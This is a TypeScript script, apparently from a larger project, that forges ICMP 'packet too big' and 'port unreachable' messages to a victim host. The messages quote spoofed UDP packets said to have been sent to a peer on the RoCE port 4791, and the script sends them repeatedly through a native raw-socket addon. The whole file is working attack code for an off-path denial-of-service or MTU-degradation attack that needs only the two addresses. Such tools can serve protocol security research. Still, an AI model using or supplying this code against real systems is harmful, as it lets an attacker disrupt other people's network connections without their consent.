/**
 * Forges ICMP to a host, of packets that it is said to have sent to a peer: all that it takes is
 * the two addresses.
 *
 *   forge-main.js too-big|port-unreachable VICTIM PEER COUNT [MTU [UDP_PORT]]
 */
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { gidFromIp, isIpv4Gid } from '../../core/spi/index.js';

interface Addon {
  /** @returns errno; 0 when it was sent */
  send(this: void, address: Uint8Array, message: Uint8Array): number;
}

const ROCE_PORT = 4791;
const GAP_MS = 20;
/** ICMP and ICMPv6 types and codes (RFC 792, RFC 4443). */
const KINDS = {
  'too-big': { ipv4: [3, 4], ipv6: [2, 0] },
  'port-unreachable': { ipv4: [3, 3], ipv6: [1, 4] },
} as const;

const path = join(import.meta.dirname, '../../../build/native/raw-icmp.node');
const { send } = createRequire(import.meta.url)(path) as Addon;

const [, , kind = '', victim = '', peer = '', count = '1', mtu = '0', port] = process.argv;
const udpPort = Number(port ?? ROCE_PORT);
const message = forged(kind as keyof typeof KINDS, gidFromIp(victim), gidFromIp(peer), Number(mtu));
const gid = gidFromIp(victim);
for (let i = 0; i < Number(count); i++) {
  const error = send(isIpv4Gid(gid) ? gid.subarray(12) : gid, message);
  if (error !== 0) throw new Error(`not sent: errno ${error}`);
  await delay(GAP_MS);
}

/** The message, with the start of the packet that it claims to be about. */
function forged(
  what: keyof typeof KINDS,
  from: Uint8Array,
  to: Uint8Array,
  mtuBytes: number,
): Uint8Array {
  const ipv4 = isIpv4Gid(from);
  const bytes = new Uint8Array(8 + (ipv4 ? 20 : 40) + 8);
  const view = new DataView(bytes.buffer);
  bytes.set(KINDS[what][ipv4 ? 'ipv4' : 'ipv6']);
  view.setUint32(4, mtuBytes);
  const udp = bytes.length - 8;
  if (ipv4) quoteIpv4(bytes.subarray(8, udp), from, to);
  else quoteIpv6(bytes.subarray(8, udp), from, to);
  view.setUint16(udp, udpPort);
  view.setUint16(udp + 2, udpPort);
  view.setUint16(udp + 4, 1100);
  // The system fills in that of ICMPv6, which covers the addresses.
  if (ipv4) view.setUint16(2, checksum(bytes));
  return bytes;
}

function quoteIpv4(header: Uint8Array, from: Uint8Array, to: Uint8Array): void {
  header.set([0x45, 0, 0x04, 0x60, 0, 0, 0x40, 0, 64, 17]);
  header.set(from.subarray(12), 12);
  header.set(to.subarray(12), 16);
  new DataView(header.buffer, header.byteOffset).setUint16(10, checksum(header));
}

function quoteIpv6(header: Uint8Array, from: Uint8Array, to: Uint8Array): void {
  header.set([0x60, 0, 0, 0, 0x04, 0x4c, 17, 64]);
  header.set(from, 8);
  header.set(to, 24);
}

/** The Internet checksum (RFC 1071). */
function checksum(bytes: Uint8Array): number {
  let sum = 0;
  bytes.forEach((byte, i) => (sum += i % 2 === 0 ? byte << 8 : byte));
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}
